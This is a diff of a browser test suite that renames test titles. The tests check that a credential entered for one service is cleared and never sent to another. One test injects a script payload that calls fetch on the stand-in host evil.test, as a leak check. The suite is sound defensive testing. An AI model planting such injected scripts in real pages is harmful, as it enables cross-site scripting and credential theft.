@@ -59,7 +59,7 @@ const NOTHING_KEPT = () =>
 describe('what is typed for one service', () => {
   const secret = bearer('alice').authorization.slice('Bearer '.length)
 
-  test('is gone from memory, storage and the next request as soon as another one is chosen', async () => {
+  test('what is typed for one service is gone from memory, storage and the next request as soon as another one is chosen', async () => {
     await visit()
     await authorize(secret)
     expect((await send('/items/', '1')).status).toBe('200')
@@ -83,7 +83,7 @@ describe('what is typed for one service', () => {
     expect(but('401')).toEqual([])
   })
 
-  test('is gone as well where it was typed and not yet taken', async () => {
+  test('what is typed for one service is gone as well where it was typed and not yet taken', async () => {
     await visit()
     await choose('Network', '/api/sync')
     await typeCredential('bot-token-canary')
@@ -96,7 +96,7 @@ describe('what is typed for one service', () => {
     expect(open.errors).toEqual([])
   })
 
-  test('is gone where the page is left, and not there when somebody comes back', async () => {
+  test('what is typed for one service is gone where the page is left, and not there when somebody comes back', async () => {
     await visit()
     await authorize(secret)
     await page.evaluate('dispatchEvent(new PageTransitionEvent("pagehide", { persisted: true }))')
@@ -113,7 +113,7 @@ describe('what is typed for one service', () => {
     expect(but('401')).toEqual([])
   })
 
-  test('goes to no other service, whatever the document says of servers and references', async () => {
+  test('what is typed for one service goes to no other service, whatever the document says of servers and references', async () => {
     describeCharts('<img src="http://evil.test/x.png"><script>fetch("http://evil.test/")</script>')
     await visit()
     await choose('Charts', '/charts')
@@ -135,7 +135,7 @@ describe('what is typed for one service', () => {
     expect(upstream.seen.some(({ url }) => url === '/charts')).toBe(false)
   })
 
-  test('does not follow a redirect to another service', async () => {
+  test('what is typed for one service does not follow a redirect to another service', async () => {
     const handle = chart.handle
     chart.handle = (req, res) => {
       if (req.url === '/charts' && req.method === 'GET')
